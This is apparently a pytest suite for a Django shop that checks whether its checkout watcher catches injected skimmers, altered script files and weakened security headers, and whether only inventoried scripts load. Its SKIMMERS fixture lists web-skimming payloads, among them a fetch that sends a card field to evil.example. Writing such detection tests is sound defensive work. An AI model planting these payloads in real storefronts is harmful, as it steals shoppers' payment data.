"""S21: whatever is added to the checkout is seen by the watch, and refused by the inventory."""

from __future__ import annotations

import re
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest
from django.conf import settings
from django.test import Client as Browser

from tests.security.asking import ask, one_connection
from tools import faces
from tools.faces import STATIC, VENDOR, listed
from tresen.config import wsgi
from tresen.entrypoints.files.serving import OWN_FILES, Files, Shelf
from tresen.entrypoints.health.checks import find_all
from tresen.entrypoints.schedule import scripts
from tresen.entrypoints.schedule.scripts import expected_pages
from tresen.entrypoints.shared.shield import inventory
from tresen.entrypoints.shared.shield.inventory import INVENTORY, UnlistedScript, known_scripts
from tresen.entrypoints.storefront.nav import forget_shelves
from tresen.foundation import clock, http
from tresen.foundation.watches.findings import list_watches
from tresen.workflows.buying.tests.make import NOON, small_shop
from tresen.workflows.listing.rebuild import rebuild_missing
from tresen.workflows.watching.examine_page import examine_page

pytestmark = pytest.mark.django_db
SKIMMERS = {
    "inline": "<script>fetch('//evil.example/?'+document.forms[0].card.value)</script>",
    "from elsewhere": '<script src="https://evil.example/skim.js"></script>',
    "from elsewhere without scheme": '<script src="//evil.example/skim.js"></script>',
    "a file of ours that is not listed": '<script src="/static/js/new.js"></script>',
    "a file of media": '<script src="/media/a/skim.js"></script>',
    "a listed file without digest": '<script src="/static/js/theme.js" nonce="NONCE"></script>',
    "event handler": '<img src="/x" onerror="skim()">',
    "svg handler": "<svg><g onload=skim()></g></svg>",
    "address": '<a href=" java&#x73;cript:skim()">x</a>',
    "frame": '<iframe src="https://evil.example/pay"></iframe>',
    "frame with words": '<iframe srcdoc="<script>1</script>"></iframe>',
    "form": '<form action="https://evil.example/pay"></form>',
    "button": '<button formaction="https://evil.example/pay">Pay</button>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "ahead": '<link rel="preload" as="script" href="https://evil.example/skim.js">',
    "object": '<object data="https://evil.example/x"></object>',
}


PLANTED: dict[str, Any] = {}
"""What happens to an answer on its way."""


@pytest.fixture(autouse=True)
def shop(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[None]:
    """The watch's client asks the shop in this process; its scripts are those of the checkout."""
    monkeypatch.setattr(clock, "now", lambda: NOON)
    small_shop()
    rebuild_missing(clock=lambda: NOON)
    forget_shelves()
    scripts._CARTS.clear()
    _lay_out(tmp_path)
    shelf = Shelf(route="/static/", folder=tmp_path, types=OWN_FILES)
    monkeypatch.setattr(wsgi, "_files", Files([shelf], hsts_seconds=0))

    def answer(request: httpx.Request) -> httpx.Response:
        found = ask(
            request.url.raw_path.decode(),
            Cookie=request.headers.get("cookie", ""),
            Host="127.0.0.1",
        )
        body = PLANTED["change"](request.url.path, found.body)
        headers = PLANTED["headers"](found.headers)
        headers.pop("content-length", None)
        return httpx.Response(found.status, headers=headers, content=body)

    PLANTED["change"] = lambda _path, body: body
    PLANTED["headers"] = lambda headers: headers

    class Inside(http.Client):
        def __init__(self, **given: object) -> None:
            super().__init__(**given, inner=lambda: httpx.MockTransport(answer))  # type: ignore[arg-type]

        def send(self, call: http.Call) -> http.Answer:
            return super()._try(call)

    monkeypatch.setattr(scripts, "Client", Inside)
    with one_connection():
        yield


def _lay_out(folder: Path) -> None:
    for script in known_scripts():
        is_vendor = script.startswith("vendor/")
        source = VENDOR / script.removeprefix("vendor/") if is_vendor else STATIC / script
        (folder / script).parent.mkdir(parents=True, exist_ok=True)
        (folder / script).write_bytes(source.read_bytes())


def test_a_clean_shop_is_found_clean_with_its_checkout() -> None:
    seen = scripts.look_at_checkout(NOON)
    assert seen.faults == ()
    assert (seen.pages, seen.scripts) == (5, 3)
    assert [watched.is_good for watched in list_watches()] == [True]


@pytest.mark.parametrize("name", sorted(SKIMMERS))
def test_every_skimmer_is_seen_and_raises_the_alarm(name: str) -> None:
    """The control is the test above: without a skimmer nothing is told."""
    before = scripts.look_at_checkout(NOON)
    PLANTED["change"] = lambda path, body: (
        body.replace(b"</main>", SKIMMERS[name].encode() + b"</main>")
        if "/checkout/" in path
        else body
    )

    seen = scripts.look_at_checkout(NOON + timedelta(minutes=5))

    assert before.is_good
    assert not seen.is_good
    assert all("/checkout/" in fault for fault in seen.faults)
    (watched,) = list_watches()
    assert (watched.is_good, watched.since) == (False, NOON + timedelta(minutes=5))
    alarm = next(finding for finding in find_all(now=NOON) if finding.name == "watches")
    assert not alarm.good
    assert "page-changed" in alarm.remedy


def test_a_script_that_was_changed_on_the_way_is_seen() -> None:
    PLANTED["change"] = lambda path, body: body + b";skim()" if path.endswith("theme.js") else body
    assert scripts.look_at_checkout(NOON).faults == ("the file /static/js/theme.js was changed",)


@pytest.mark.parametrize("name", ["content-security-policy", "x-frame-options"])
def test_a_header_that_went_missing_or_was_softened_is_seen(name: str) -> None:
    PLANTED["headers"] = lambda headers: {key: v for key, v in headers.items() if key != name}
    assert not scripts.look_at_checkout(NOON).is_good
    PLANTED["headers"] = lambda headers: {
        key: v.replace("'strict-dynamic'", "'unsafe-inline'").replace("DENY", "SAMEORIGIN")
        for key, v in headers.items()
    }
    assert not scripts.look_at_checkout(NOON).is_good


def test_a_shop_that_does_not_answer_is_told_as_that(monkeypatch: pytest.MonkeyPatch) -> None:
    def away(*_: object) -> None:
        raise http.Unreachable("ConnectError")

    monkeypatch.setattr(scripts.Client, "send", away)
    assert "could not be fetched" in scripts.look_at_checkout(NOON).words


def test_when_it_is_good_again_the_alarm_ends() -> None:
    PLANTED["change"] = lambda _path, body: body.replace(b"</main>", b"<script>1</script></main>")
    scripts.look_at_checkout(NOON)
    PLANTED["change"] = lambda _path, body: body
    scripts.look_at_checkout(NOON + timedelta(minutes=5))
    (watched,) = list_watches()
    assert (watched.is_good, watched.since) == (True, NOON + timedelta(minutes=5))


# The inventory


def test_the_inventory_names_owner_purpose_and_the_digest_of_each_file() -> None:
    assert INVENTORY.read_text("utf-8") == listed(), "run: python -m tools.faces, and have it seen"
    for script in known_scripts().values():
        assert len(script.owner) > 3
        assert len(script.purpose) > 30
        assert re.fullmatch(r"sha384-[A-Za-z0-9+/]{64}", script.integrity)


def test_a_changed_file_turns_the_test_above_red(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Control."""
    monkeypatch.setattr(faces, "STATIC", tmp_path)
    assert listed() == INVENTORY.read_text("utf-8")
    (tmp_path / "js" / "theme.js").write_text("skim()")
    assert listed() != INVENTORY.read_text("utf-8")


def test_no_template_loads_a_script_but_by_the_inventory() -> None:
    found = {
        str(path)
        for folder in ("tresen/entrypoints", "tresen/adapters", "tools/styleguide")
        for path in (settings.ROOT / folder).rglob("*.html")
        if re.search(r"<script\b", path.read_text("utf-8"))
    }
    assert found == set()


def test_a_script_that_is_not_listed_is_not_drawn() -> None:
    with pytest.raises(UnlistedScript):
        inventory.script_of("js/new.js")


def test_every_page_of_the_shop_passes_the_same_look() -> None:
    browser = Browser()
    for path in ("/de/", "/de/cart/", "/de/legal/terms/", "/de/search/?q=tee", "/nothing"):
        answer = browser.get(path)
        headers = {name.lower(): value for name, value in answer.headers.items()}
        assert examine_page(answer.content.decode(), headers, expected=expected_pages()) == [], path
